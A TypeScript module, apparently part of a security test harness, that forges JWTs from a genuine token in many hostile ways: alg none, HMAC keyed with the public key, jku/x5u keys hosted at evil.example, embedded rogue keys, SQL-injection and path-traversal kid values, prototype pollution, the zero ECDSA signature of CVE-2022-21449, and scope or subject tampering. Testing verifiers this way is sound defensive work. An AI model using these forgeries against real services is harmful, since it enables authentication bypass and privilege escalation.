import { createPublicKey, randomBytes } from 'node:crypto';
import type { JwtForgery } from './hostile.ts';
import { b64json, decodeSegment, hmacSignature, signature, type SigningKey } from './jwt.ts';

/** What forging needs: the issuer's published keys, a key of our own, and a client id that is not the token's. */
export interface ForgeContext {
  issuerJwks(): Promise<{ keys: Record<string, unknown>[] }>;
  readonly rogue: SigningKey;
  readonly otherClientId: string;
}

/**
 * Forges a JWT from a real one as a JwtForgery says: header, claims, signature and shape each kept
 * or broken in one of the ways attacks on JWT libraries have used (alg none, HMAC keyed with the
 * public key, keys named by jku/x5u/jwk, crit, a zero ECDSA signature, claims swapped under the
 * original signature, ...).
 */
export async function forge(world: ForgeContext, base: string, f: JwtForgery): Promise<string> {
  const parts = base.split('.');
  const realHeader = decodeSegment(parts[0]);
  const realClaims = decodeSegment(parts[1]);
  const header: Record<string, unknown> = isObject(realHeader) ? { ...realHeader } : { alg: 'ES256', typ: 'at+jwt' };
  const claims: Record<string, unknown> = isObject(realClaims) ? { ...realClaims } : {};
  let headerSegment: string | undefined;
  let claimsSegment: string | undefined;
  const now = Math.floor(Date.now() / 1000);
  const jwks = await world.issuerJwks();
  const ourKey = jwks.keys.find((k) => k.kid === header.kid) ?? jwks.keys[0]!;

  switch (f.header) {
    case 'keep':
      break;
    case 'alg-none':
      header.alg = 'none';
      break;
    case 'alg-None':
      header.alg = 'None';
      break;
    case 'alg-empty':
      header.alg = '';
      break;
    case 'alg-array':
      header.alg = ['ES256', 'none'];
      break;
    case 'hs256-with-public-key':
      header.alg = 'HS256';
      break;
    case 'es384':
      header.alg = 'ES384';
      break;
    case 'kid-unknown':
      header.kid = 'no-such-kid';
      break;
    case 'kid-path-traversal':
      header.kid = '../../../../../../dev/null';
      break;
    case 'kid-sql':
      header.kid = "' UNION SELECT 'secret' --";
      break;
    case 'kid-long':
      header.kid = 'k'.repeat(10_000);
      break;
    case 'kid-number':
      header.kid = 12345;
      break;
    case 'no-kid':
      delete header.kid;
      break;
    case 'jku':
      header.jku = 'https://evil.example/jwks.json';
      header.kid = world.rogue.kid;
      break;
    case 'x5u':
      header.x5u = 'https://evil.example/cert.pem';
      break;
    case 'jwk-embedded':
      header.jwk = world.rogue.publicKey.export({ format: 'jwk' });
      header.kid = world.rogue.kid;
      break;
    case 'crit-unknown':
      header.crit = ['https://evil.example/ext'];
      header['https://evil.example/ext'] = true;
      break;
    case 'b64-false':
      header.b64 = false;
      header.crit = ['b64'];
      break;
    case 'typ-jwt':
      header.typ = 'JWT';
      break;
    case 'typ-missing':
      delete header.typ;
      break;
    case 'typ-id-token':
      header.typ = 'application/at+jwt; x=1';
      break;
    case 'zip':
      header.zip = 'DEF';
      break;
    case 'jwe-header':
      header.alg = 'dir';
      header.enc = 'A256GCM';
      break;
    case 'not-json':
      headerSegment = Buffer.from('{"alg":"ES256",').toString('base64url');
      break;
    case 'json-array':
      headerSegment = b64json(['ES256']);
      break;
    case 'json-null':
      headerSegment = b64json(null);
      break;
    case 'empty-object':
      headerSegment = b64json({});
      break;
    case 'proto-pollution':
      headerSegment = Buffer.from(`{"alg":"ES256","kid":${JSON.stringify(header.kid ?? 'x')},"__proto__":{"alg":"none"},"constructor":{"prototype":{"isAdmin":true}}}`).toString('base64url');
      break;
  }

  switch (f.payload) {
    case 'keep':
      break;
    case 'extend-scope':
      claims.scope = `${claims.scope ?? ''} orders:write openid admin`.trim();
      break;
    case 'other-sub':
      claims.sub = 'someone-else';
      break;
    case 'other-client':
      claims.client_id = world.otherClientId;
      break;
    case 'other-iss':
      claims.iss = 'https://evil.example';
      break;
    case 'other-aud':
      claims.aud = 'https://evil.example/api';
      break;
    case 'aud-array-huge':
      claims.aud = Array.from({ length: 300 }, (_, i) => `https://aud-${i}.example`);
      break;
    case 'far-exp':
      claims.exp = now + 10 * 365 * 86_400;
      break;
    case 'expired':
      claims.exp = now - 3600;
      break;
    case 'exp-string':
      claims.exp = String(now + 600);
      break;
    case 'exp-huge':
      claims.exp = 1e308;
      break;
    case 'no-exp':
      delete claims.exp;
      break;
    case 'nbf-future':
      claims.nbf = now + 3600;
      break;
    case 'iat-future':
      claims.iat = now + 3600;
      break;
    case 'no-jti':
      delete claims.jti;
      break;
    case 'jti-long':
      claims.jti = 'j'.repeat(5000);
      break;
    case 'deep-nesting':
      claimsSegment = Buffer.from(`{"sub":${'['.repeat(3000)}${']'.repeat(3000)}}`).toString('base64url');
      break;
    case 'many-claims':
      for (let i = 0; i < 400; i++) claims[`c${i}`] = i;
      break;
    case 'not-json':
      claimsSegment = Buffer.from('not json at all').toString('base64url');
      break;
    case 'json-array':
      claimsSegment = b64json([claims]);
      break;
    case 'proto-pollution':
      claimsSegment = Buffer.from(`{"__proto__":{"scope":"openid orders:write"},"sub":${JSON.stringify(claims.sub ?? 'x')}}`).toString('base64url');
      break;
    case 'act-chain': {
      let act: Record<string, unknown> = { sub: 'a0' };
      for (let i = 1; i < 50; i++) act = { sub: `a${i}`, act };
      claims.act = act;
      break;
    }
    case 'may-act':
      claims.may_act = { sub: 'someone-else' };
      break;
  }

  const h = headerSegment ?? encodeOr(header, parts[0] ?? '');
  const p = claimsSegment ?? encodeOr(claims, parts[1] ?? '');
  const input = `${h}.${p}`;
  let sig = parts[2] ?? '';
  if (f.header === 'hs256-with-public-key') {
    // The classic confusion: an HMAC keyed with the server's public key, as PEM and as JWK JSON.
    const pem = createPublicKey({ key: ourKey as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    sig = hmacSignature(input, f.signature === 'random' ? JSON.stringify(ourKey) : pem);
  } else if (f.header === 'alg-none' || f.header === 'alg-None') {
    sig = '';
  }
  switch (f.signature) {
    case 'keep':
      break;
    case 'strip':
      sig = '';
      break;
    case 'random':
      if (f.header !== 'hs256-with-public-key') sig = randomBytes(64).toString('base64url');
      break;
    case 'rogue-key':
      sig = signature(input, world.rogue);
      break;
    case 'truncate':
      sig = sig.slice(0, Math.floor(sig.length / 2));
      break;
    case 'flip-bit': {
      const bytes = Buffer.from(sig, 'base64url');
      if (bytes.length > 0) bytes[bytes.length - 1]! ^= 1;
      sig = bytes.toString('base64url');
      break;
    }
    case 'empty-ecdsa':
      // CVE-2022-21449 ("psychic signatures"): r = s = 0.
      sig = Buffer.alloc(64).toString('base64url');
      break;
    case 'base64-std':
      sig = Buffer.from(sig, 'base64url').toString('base64');
      break;
  }
  let token = `${input}.${sig}`;

  switch (f.shape) {
    case 'keep':
      break;
    case 'two-parts':
      token = input;
      break;
    case 'four-parts':
      token = `${token}.${sig}`;
      break;
    case 'five-parts':
      token = `${h}.${randomBytes(8).toString('base64url')}.${randomBytes(12).toString('base64url')}.${p}.${sig}`;
      break;
    case 'trailing-dot':
      token = `${token}.`;
      break;
    case 'leading-dot':
      token = `.${token}`;
      break;
    case 'padding':
      token = `${h}==.${p}=.${sig}==`;
      break;
    case 'whitespace':
      token = ` ${token} `;
      break;
    case 'newline':
      token = `${h}.\n${p}.${sig}`;
      break;
    case 'doubled':
      token = `${token} ${token}`;
      break;
    case 'lower-case':
      token = token.toLowerCase();
      break;
    case 'upper-case':
      token = token.toUpperCase();
      break;
    case 'percent-encoded':
      token = encodeURIComponent(token).replace(/\./g, '%2E');
      break;
  }
  return token;
}

/** The JSON segment of a value, or the original segment when the value cannot be written back (a forgery of a forgery nested too deep). */
function encodeOr(value: unknown, original: string): string {
  try {
    return b64json(value);
  } catch {
    return original;
  }
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
